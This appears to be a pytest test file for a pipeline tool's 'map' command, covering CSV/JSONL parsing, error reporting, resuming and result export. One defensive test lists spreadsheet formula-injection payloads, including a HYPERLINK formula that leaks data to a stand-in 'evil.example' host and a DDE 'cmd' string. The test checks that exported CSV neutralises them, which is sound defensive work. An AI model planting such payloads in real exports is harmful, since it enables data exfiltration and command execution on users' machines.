"""``attractor-nb map``: a pipeline over the rows of a file."""

import csv
import json
import signal
import subprocess

import pytest

from attractor_nb.errors import StorageError
from attractor_nb.maps.map_launch import MapRun
from attractor_nb.runtime.prepare import row_files
from attractor_nb.runtime.prepare.row_files import _line_span, read_params_file
from attractor_nb.storage.map_directory import read_map

ROWS = '{"n": 1}\n\n{"n": 2, "deep": [1, {"a": null}]}\n{"n": 3}\n'


@pytest.fixture
def tickets(sources):
    (sources / "rows.jsonl").write_text(ROWS)
    (sources / "rows.csv").write_text('\ufeffticket,note\n41,"one, two"\n42,\n')
    return sources


def test_all_rows_succeed(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.jsonl")
    assert ended.code == 0
    assert "✓ completed   3 of 3 rows   3 completed" in ended.out
    assert "map directory  .attractor/runs/" in ended.out
    lines = ended.err.splitlines()
    assert lines[0] == "Straight   3 rows"
    assert sorted(line.split()[1] for line in lines[1:]) == ["0", "1", "2"]


def test_a_file_of_rows_behind_the_pipeline_is_told_the_option(command, tickets):
    ended = command("map", "straight.dot", "rows.jsonl")
    assert ended.code == 2
    assert "(rows.jsonl)" in ended.err
    assert "hint: an option names the rows: attractor-nb map FILE --params rows.jsonl" in ended.err


def test_a_failed_row_makes_the_exit_code(command, tickets):
    ended = command("map", "failing.dot", "--params", "rows.jsonl", "--trust")
    assert ended.code == 1
    assert "3 failed" in ended.out
    assert "exit code 3" in ended.out
    assert ended.out.count("failed  ") >= 3


def test_values_of_csv_are_text(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.csv", "--json", "-q", "--output", "ticket")
    assert (ended.code, ended.err) == (0, "")
    said = json.loads(ended.out)
    assert [row["inputs"] for row in said["rows"]] == [
        {"ticket": "41", "note": "one, two"},
        {"ticket": "42", "note": ""},
    ]
    assert [row["outputs"]["ticket"] for row in said["rows"]] == ["41", "42"]
    assert said["counts"] == {"success": 2, "fail": 0, "interrupted": 0, "not_started": 0}


def test_a_missing_value_and_the_text_null_stay_apart(command, sources, tickets):
    texts = {
        "r.jsonl": '{"ticket": null}\n{"ticket": "null"}\n{"ticket": ""}\n',
        "r.csv": 'ticket,n\nnull,1\n,2\n"null",3\n',
    }
    found = {}
    for name, text in texts.items():
        (sources / name).write_text(text)
        assert (
            command("map", "straight.dot", "--params", name, "--output", "ticket", "--out", "o.jsonl", "-q").code == 0
        )
        lines = (tickets / "o.jsonl").read_text().splitlines()
        found[name] = [json.loads(line)["outputs"]["ticket"] for line in lines]
        (tickets / "o.jsonl").unlink()
    assert found == {"r.jsonl": [None, "null", ""], "r.csv": ["null", "", "null"]}


@pytest.mark.parametrize("mark", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"])
def test_only_line_breaks_end_a_row_of_csv(command, sources, mark):
    """RFC 4180. What `str.splitlines` takes for line breaks stands within values that Word and Excel wrote."""
    (sources / "rows.csv").write_text(f"ticket,note\r\nPrinter{mark}broken,one\r\nsecond,two\r\n", newline="")
    ended = command("map", "straight.dot", "--params", "rows.csv", "--json", "-q", "--output", "ticket")
    assert [row["outputs"]["ticket"] for row in json.loads(ended.out)["rows"]] == [f"Printer{mark}broken", "second"]


@pytest.mark.parametrize(
    "text",
    [
        "ticket;note\n1,5;one\n2;two\n",
        "ticket\tnote\n1,5\tone\n2\ttwo\n",
        '"ticket";"a, b"\n"1,5";one\n2;two\n',
        "\ufeffsep=;\r\nticket;note\r\n1,5;one\r\n2;two\r\n",
    ],
    ids=["semicolon", "tab", "a comma within a name", "the line of Excel"],
)
def test_csv_with_another_separator_is_read(command, sources, text):
    (sources / "rows.csv").write_text(text)
    ended = command("map", "straight.dot", "--params", "rows.csv", "--json", "-q", "--output", "ticket")
    assert [row["outputs"]["ticket"] for row in json.loads(ended.out)["rows"]] == ["1,5", "2"]


def test_a_value_of_csv_may_be_long(command, sources):
    (sources / "rows.csv").write_text(f"ticket,note\n{'x' * 200_000},one\n")
    assert command("map", "straight.dot", "--params", "rows.csv", "--json", "-q").code == 0


def test_the_place_of_a_row_of_csv_is_looked_for_only_when_it_is_wrong(tmp_path, monkeypatch):
    """A file of 20,000 rows took 21 seconds, and one of 100,000 nine minutes."""
    found = []
    monkeypatch.setattr(
        row_files, "_line_span", lambda source, number: found.append(number) or _line_span(source, number)
    )
    (tmp_path / "rows.csv").write_text("a,b\n" + "1,2\n" * 1000)
    assert len(read_params_file(tmp_path / "rows.csv")) == 1000
    assert found == [1]


def test_blank_lines_of_csv_are_no_rows(command, sources):
    (sources / "rows.csv").write_text("\n \nticket,note\n\n41,one\n , \n\n42,two\n\n")
    ended = command("map", "straight.dot", "--params", "rows.csv", "--json", "-q")
    assert (ended.code, ended.err) == (0, "")
    inputs = [row["inputs"] for row in json.loads(ended.out)["rows"]]
    assert inputs == [{"ticket": "41", "note": "one"}, {"ticket": "42", "note": "two"}]


def test_results_go_to_a_file_and_the_map_to_a_directory(command, tickets):
    assert command("map", "straight.dot", "--params", "rows.jsonl", "--out", "r.jsonl", "-q").code == 0
    lines = [json.loads(line) for line in (tickets / "r.jsonl").read_text().splitlines()]
    assert [(line["row"], line["status"], line["inputs"]["n"]) for line in lines] == [
        (0, "success", 1),
        (1, "success", 2),
        (2, "success", 3),
    ]
    assert command("map", "straight.dot", "--params", "rows.jsonl", "--out", "kept", "-q").code == 0
    assert read_map(tickets / "kept")["status"] == "completed"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("r.json", '[{"ticket": "41", "n": 1},\n {"ticket": "42", "n": 2}]'),
        ("r.toml", '[[row]]\nticket = "41"\nn = 1\n[[row]]\nticket = "42"\nn = 2\n'),
    ],
)
def test_rows_of_json_and_toml(command, sources, name, text):
    (sources / name).write_text(text)
    ended = command("map", "straight.dot", "--params", name, "--json", "-q")
    assert [row["inputs"] for row in json.loads(ended.out)["rows"]] == [
        {"ticket": "41", "n": 1},
        {"ticket": "42", "n": 2},
    ]


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("r.json", '{"ticket": "41"}', "r.json has no rows"),
        ("r.json", "[1]", "row 0 is a number, not an object"),
        ("r.json", "[]", "r.json has no rows"),
        ("r.toml", 'ticket = "41"', "r.toml has no rows"),
        ("r.toml", "[[a]]\nx=1\n[[b]]\nx=2\n", "r.toml has no rows"),
        ("r.xml", "<a/>", "rows are read from .jsonl, .csv, .json and .toml files"),
    ],
)
def test_files_that_hold_no_rows_are_named(command, sources, name, text, words):
    (sources / name).write_text(text)
    ended = command("map", "straight.dot", "--params", name)
    assert (ended.code, words in ended.err) == (2, True)


def test_a_param_of_a_map_is_a_value_of_all_rows(command, tickets):
    (tickets / "guide.md").write_text("short\n")
    given = ("--param", "guide=@guide.md", "--param", "n:=3")
    ended = command("map", "straight.dot", "--params", "rows.csv", *given, "--out", "kept", "--json", "-q")
    assert [row["inputs"] for row in json.loads(ended.out)["rows"]] == [
        {"guide": "short\n", "n": 3, "ticket": "41", "note": "one, two"},
        {"guide": "short\n", "n": 3, "ticket": "42", "note": ""},
    ]
    assert command("map", "--resume", "kept", "-q").code == 0, "its inputs are in its directory"
    assert "leave --param out" in command("map", "--resume", "kept", *given).err


def test_a_param_and_a_column_of_one_name_contradict_each_other(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.csv", "--param", "ticket=7")
    assert (ended.code, "row 0 has a value for ticket, and so has --param" in ended.err) == (2, True)


def test_results_as_csv_have_a_line_for_each_row(command, tickets):
    (tickets / "try.dot").write_text(
        "digraph { start [shape=Mdiamond] done [shape=Msquare] start -> try -> done\n"
        'try [shape=parallelogram, tool_command="grep -q 41 && echo first, and more || exit 3"] }'
    )
    ended = command(
        "map", "try.dot", "--params", "rows.csv", "--trust", "-q", "--out", "r.csv", "--output", "tool.output"
    )
    assert ended.code == 1
    with (tickets / "r.csv").open(newline="") as file:
        first, second = csv.DictReader(file)
    assert (first["row"], first["ticket"], first["note"], first["status"]) == ("0", "41", "one, two", "success")
    assert (first["tool.output"], second["tool.output"]) == ("first, and more\n", "")
    assert (second["row"], second["status"], "exit code 3" in second["reason"]) == ("1", "fail", True)


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_executes_nothing_that_results_as_csv_contain(command, tickets, text):
    (tickets / "rows.jsonl").write_text(json.dumps({"ticket": text, text: "x"}) + "\n")
    ended = command("map", "straight.dot", "--params", "rows.jsonl", "-q", "--out", "r.csv", "--output", "ticket")
    assert ended.code == 0, ended.err
    with (tickets / "r.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{text}" in cells
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\uff1d") and cell]


@pytest.mark.parametrize("text", ["-5", "+3.25", "-1e-3", "a=b", "", "'quoted", "one\r=2", "one\r\ntwo\n"])
def test_a_number_and_a_plain_text_stand_in_csv_as_they_are(command, tickets, text):
    (tickets / "rows.jsonl").write_text(json.dumps({"ticket": text}) + "\n")
    command("map", "straight.dot", "--params", "rows.jsonl", "-q", "--out", "r.csv", "--output", "ticket")
    with (tickets / "r.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["ticket"] == text


def test_values_in_csv_that_are_no_text_are_json(command, tickets):
    (tickets / "one.jsonl").write_text('{"deep": [1, {"a": null}], "no": null, "yes": true}\n')
    assert command("map", "straight.dot", "--params", "one.jsonl", "-q", "--out", "R.CSV").code == 0
    with (tickets / "R.CSV").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["deep"], row["no"], row["yes"]) == ('[1, {"a": null}]', "", "true")


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("r.json", 'results are not written as .json; did you mean ".jsonl"?'),
        ("r.xlsx", "name a file .jsonl or .ndjson or .csv, or a directory without a suffix for the map itself"),
    ],
)
@pytest.mark.parametrize("given", [["straight.dot", "--params", "rows.jsonl"], ["--resume", "kept"]])
def test_results_in_an_unknown_format_are_refused_before_anything_runs(command, tickets, name, words, given):
    before = sorted(tickets.iterdir())
    ended = command("map", *given, "--out", name)
    assert (ended.code, words in ended.err) == (2, True)
    assert sorted(tickets.iterdir()) == before


def test_results_in_a_directory_that_is_not_there_are_refused_before_anything_runs(command, tickets):
    ended = command("map", "review.dot", "--params", "rows.jsonl", "--simulate", "--out", "nowhere/results.csv")
    assert (ended.code, ended.out) == (2, "")
    assert "nowhere/results.csv cannot be written: there is no directory nowhere" in ended.err
    assert not (tickets / ".attractor").exists()


def test_the_directory_of_a_map_may_have_a_number_behind_a_dot(command, tickets):
    assert command("map", "straight.dot", "--params", "rows.jsonl", "--out", "v1.2", "-q").code == 0
    assert read_map(tickets / "v1.2")["status"] == "completed"


def test_a_misspelt_output_is_refused_before_anything_runs(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.csv", "--output", "tikcet")
    assert ended.code == 2
    assert ended.err.startswith('error: no stage and no row sets the output "tikcet"; did you mean "ticket"?\n hint: ')
    assert not (tickets / ".attractor").exists()


def test_an_output_that_no_stage_set_is_said(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.csv", "--output", "verdict", "--json", "-q")
    assert ended.code == 0
    assert json.loads(ended.out)["unset_outputs"] == ["verdict"]
    assert ended.err == 'warning: no row has the output "verdict": no stage set it\n'


def test_a_finished_map_can_be_read_again(command, tickets):
    command("map", "straight.dot", "--params", "rows.jsonl", "--out", "kept", "-q")
    ended = command("map", "--resume", "kept")
    assert ended.code == 0
    assert ended.err.count("had ended before") == 3
    ended = command("map", "--resume", "kept", "--params", "rows.csv")
    assert ended.code == 2
    assert "params has 2 rows, and the map has 3" in ended.err


def test_gates_fail_unless_they_are_approved(command, tickets):
    ended = command("map", "review.dot", "--params", "rows.jsonl", "-q")
    assert ended.code == 1
    assert "needs an answer" in ended.out
    assert command("map", "review.dot", "--params", "rows.jsonl", "-q", "--auto-approve").code == 0
    ended = command("map", "review.dot", "--params", "rows.jsonl", "--gates", "console")
    assert ended.code == 2
    assert "the console cannot ask the gates of many rows" in ended.err


def test_bounds_of_all_rows_start_no_more(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.jsonl", "--max-duration-all", "0s")
    assert ended.code == 1
    assert "max_duration_all=0s reached" in ended.out
    assert "Resume with `attractor-nb map --resume .attractor/runs/" in ended.err
    again = command(*ended.err.split("`")[1].split()[1:])
    assert again.code == 0


def test_commands_are_asked_about_before_anything_runs(command, tickets):
    ended = command("map", "failing.dot", "--params", "rows.jsonl")
    assert ended.code == 2
    assert "--trust" in ended.err
    assert not (tickets / ".attractor").exists()
    assert command("map", "failing.dot", "--params", "rows.jsonl", "--simulate").code == 0
    marked = json.loads(command("map", "failing.dot", "--params", "rows.jsonl", "--simulate", "-q", "--json").out)
    assert (marked["is_simulated"], marked["mark"]) == (True, "simulated")  # ruling 48, where no model is asked, too
    assert {row["mark"] for row in marked["rows"]} == {"simulated"}
    assert {run["mark"] for run in json.loads(command("runs", "--json").out)} == {"simulated"}


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("a.jsonl", '{"n": 1}\n{"n": }\n', ["line 2 is not JSON", "--> a.jsonl:2:7", "one object on each line"]),
        ("a.jsonl", '{"n": 1}\n[1]\n', ["line 2 is an array, not an object", "--> a.jsonl:2:1"]),
        ("a.jsonl", '{"n": 1, "n": 2}\n', ["line 1", "--> a.jsonl:1:1", "^"]),
        ("a.jsonl", '{"n": NaN}\n', ["line 1", "--> a.jsonl:1:1"]),
        ("a.jsonl", "[" * 100_000, ["line 1", "--> a.jsonl:1:1"]),
        ("a.jsonl", "", ["has no rows"]),
        ("a.jsonl", '{"graph.goal": 1}', ["params[0]", "the engine's own"]),
        ("a.jsonl", b"\xff\n", ["not UTF-8 text (line 1)"]),
        ("a.csv", "a,b\n1,2\n3\n", ["line 3 has 1 values, and the first line names 2", "--> a.csv:3:1"]),
        ("a.csv", "a,a\n1,2\n", ["the column a occurs twice", "--> a.csv:1:1"]),
        ("a.csv", "a,\n1,2\n", ["a column has no name", "--> a.csv:1:1"]),
        ("a.csv", 'a\n"1"2\n', ["line 2 is not valid CSV", "--> a.csv:2:1"]),
        ("a.csv", 'a\n"1\n', ["is not valid CSV"]),
        ("a.csv", "a,b\n", ["has no rows"]),
        ("a.txt", "x", ["has an unknown extension", ".jsonl or .csv"]),
    ],
)
def test_a_malformed_file_is_refused_with_its_place(command, sources, name, text, words):
    (sources / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    ended = command("map", "straight.dot", "--params", name)
    assert ended.code == 2
    assert [word for word in words if word not in ended.err] == []
    assert "hint:" in ended.err
    assert "Traceback" not in ended.err
    assert not (sources / ".attractor").exists()


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["map"], "FILE"),
        (["map", "straight.dot"], "--params"),
        (["map", "straight.dot", "--params", "nowhere.jsonl"], "cannot be read"),
        (["map", "straight.dot", "--params", "rows.jsonl", "--max-parallel", "0"], "max-parallel"),
        (["map", "--resume", "nowhere"], "nowhere"),
        (["map", "--resume", "rows.jsonl"], "rows.jsonl"),
        (["map", "--resume", "kept", "--out", "elsewhere"], "a map is resumed in its own directory"),
        (["resume", "kept"], "map --resume"),
    ],
)
def test_a_wrong_command_line_says_what_is_missing(command, tickets, arguments, words):
    command("map", "straight.dot", "--params", "rows.jsonl", "--out", "kept", "-q")
    ended = command(*arguments)
    assert ended.code == 2
    assert words in ended.err


def test_ctrl_c_stops_the_map_and_says_how_to_go_on(started, tickets):
    process = started("map", "slow.dot", "--params", "rows.jsonl", "--trust", "--out", "kept", text=True)
    assert process.stderr.readline() == "Slow   3 rows\n"
    for _ in range(3_000):
        if list(tickets.glob("kept/row-*/nap/began")) or list(tickets.glob("began")):
            break
        try:
            process.wait(0.02)
        except subprocess.TimeoutExpired:
            continue
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "3 stopped" in out
    assert "Resume with `attractor-nb map --resume kept`" in err


def test_a_disk_that_refuses_during_the_map_ends_with_1(command, tickets, monkeypatch):
    def refuse(self, timeout=None):
        raise StorageError("cannot write map.json: no space left")

    monkeypatch.setattr(MapRun, "result", refuse)
    ended = command("map", "straight.dot", "--params", "rows.jsonl", "--out", "kept", "--json", "-q")
    assert ended.code == 1
    assert json.loads(ended.out)["error"]["message"] == "cannot write map.json: no space left"


def test_a_terminal_gets_a_bar_and_lines_for_failures():
    import io

    from attractor_nb.cli.map_execution import MapProgress
    from attractor_nb.cli.terminal import Terminal
    from attractor_nb.maps.map_view import MapView
    from attractor_nb.model.row_result import RowResult

    class Tty(io.StringIO):
        def isatty(self):
            return True

    stream = Tty()
    view = MapView("demo", 3)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TERM", "xterm")
        progress = MapProgress(view, terminal=Terminal(stream, name_columns=1))
        progress.begin()
        for result in (RowResult(0, "success"), RowResult(1, "fail", reason="no \x1b[31mluck")):
            view.take(result)
            progress.take(result)
        progress.close()
    text = stream.getvalue()
    assert "2 of 3 rows" in text
    assert "no" in text
    assert "\x1b[31mluck" not in text


def test_the_results_never_go_over_the_rows(command, tickets):
    ended = command("map", "straight.dot", "--params", "rows.jsonl", "--out", "./rows.jsonl")
    assert (ended.code, (tickets / "rows.jsonl").read_text()) == (2, ROWS)
    assert "is an input file" in ended.err
    assert not (tickets / ".attractor").exists()


def test_a_resumed_map_says_that_the_file_was_edited(command, tickets):
    command("map", "failing.dot", "--params", "rows.jsonl", "--out", "kept", "--trust")
    assert "has changed" not in command("map", "--resume", "kept", "--trust").err
    (tickets / "failing.dot").write_text((tickets / "failing.dot").read_text().replace("echo no", "echo yes"))
    ended = command("map", "--resume", "kept", "--trust")
    assert "warning: failing.dot has changed since this map began" in ended.err
    line = "attractor-nb map failing.dot --resume kept --on-graph-change accept"
    assert f"`{line}`" in ended.err
    assert "has changed" not in command(*line.split()[1:], "--trust").err


def test_rows_that_failed_are_tried_again_when_asked(command, sources):
    (sources / "rows.jsonl").write_text('{"n": 1}\n{"n": 2}\n')
    (sources / "try.dot").write_text(
        "digraph { start [shape=Mdiamond] done [shape=Msquare] start -> try -> done\n"
        'try [shape=parallelogram, tool_command="test -e mended"] }'
    )
    failed = command("map", "try.dot", "--params", "rows.jsonl", "--out", "m", "--trust")
    assert failed.code == 1
    assert "Try the failed rows again with `attractor-nb map --resume m --failed retry`" in failed.err
    (sources / "mended").touch()
    assert command("map", "--resume", "m", "--trust").code == 1
    retried = command("map", "--resume", "m", "--failed", "retry", "--trust")
    assert (retried.code, "2 of 2 rows" in retried.out + retried.err) == (0, True)


def test_the_rows_of_a_map_are_recorded_once_and_replayed(command, tickets):
    recorded = command("map", "straight.dot", "--params", "rows.jsonl", "--cassette", "c.json")
    assert (recorded.code, "cassette: 0 calls from c.json, 3 recorded" in recorded.err) == (0, True)
    replayed = command(
        "map", "straight.dot", "--params", "rows.jsonl", "--cassette", "c.json", "--cassette-mode", "replay"
    )
    assert (replayed.code, "cassette: 3 calls from c.json" in replayed.err) == (0, True)


def test_watch_shows_rows_with_inputs_and_reasons_and_where_they_failed(command, tmp_path, monkeypatch):
    from attractor_nb import Outcome, Pipeline

    def answer(node, prompt, context):
        return Outcome.fail("no such ticket") if context["ticket"] == "42" else f"answer {context['ticket']}"

    text = 'digraph { inputs="ticket" start [shape=Mdiamond] a [prompt="$ticket"] done [shape=Msquare] start -> a -> done }'
    rows = [{"ticket": str(40 + number)} for number in range(30)]
    Pipeline(text, backend=answer).map(rows, map_dir=tmp_path / "map", outputs=["last_response"], wait=True)
    shown = command("watch", str(tmp_path / "map"), "--once").out
    lines = shown.split("\n")
    assert lines[1] == "failed in a (1)"
    assert lines[3].split() == ["row", "status", "reason", "ticket", "last_response", "time"]
    assert lines[4].split()[:8] == ["2", "\N{MULTIPLICATION X}", "failed", "a:", "no", "such", "ticket", "42"]
    assert "answer 40" in lines[5]
    assert "… and 10 more" in lines

    def rows_of(*options):
        ended = command("watch", str(tmp_path / "map"), "--once", *options)
        return [line.split()[0] for line in ended.out.split("\n") if line.strip()[:1].isdigit()]

    assert rows_of("--status", "failed") == rows_of("--status", "fail") == ["1", "2"], "their number, and the row"
    assert rows_of("--filter", "ANSWER 55") == ["1", "15"]
    assert rows_of("--status", "failed", "--filter", "55") == ["0"]
    misspelt = command("watch", str(tmp_path / "map"), "--once", "--status", "faild")
    assert misspelt.code == 2
    assert "--status is one of completed, failed" in misspelt.err
    assert "rows of a map" in command("watch", "--status", "failed").err


@pytest.mark.parametrize("chosen", [("--status", "completed"), ("--filter", "1")])
def test_json_of_a_map_has_all_rows_so_none_are_chosen(command, tickets, chosen):
    assert command("map", "straight.dot", "--params", "rows.jsonl", "--out", "kept", "-q").code == 0
    refused = command("watch", "kept", "--once", "--json", *chosen)
    said = json.loads(refused.out)["error"]
    assert (refused.code, said["message"], said["hint"]) == (
        2,
        "--status and --filter choose rows of the table; --json has all rows",
        "use jq",
    )
    assert len(json.loads(command("watch", "kept", "--once", "--json").out)["rows"]) == 3
